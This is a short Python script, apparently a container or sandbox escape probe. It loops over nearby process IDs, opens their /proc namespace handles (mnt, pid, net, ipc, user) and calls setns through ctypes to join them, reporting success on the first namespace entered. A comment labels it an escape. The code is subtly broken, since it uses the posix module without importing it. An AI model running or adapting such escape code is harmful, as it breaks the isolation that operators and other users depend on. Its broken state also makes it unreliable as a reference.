"""Joins the namespaces of every process that it sees; solves its problem if one lets it."""
# with: escape

import ctypes


def attempt():
    libc = ctypes.CDLL(None)
    for pid in [posix.getppid(), *range(1, 60)]:
        if pid == posix.getpid():
            continue
        for kind in ("mnt", "pid", "net", "ipc", "user"):
            try:
                fd = posix.open(f"/proc/{pid}/ns/{kind}", posix.O_RDONLY)
            except OSError:
                continue
            if libc.setns(fd, 0) == 0:
                return True
    return False
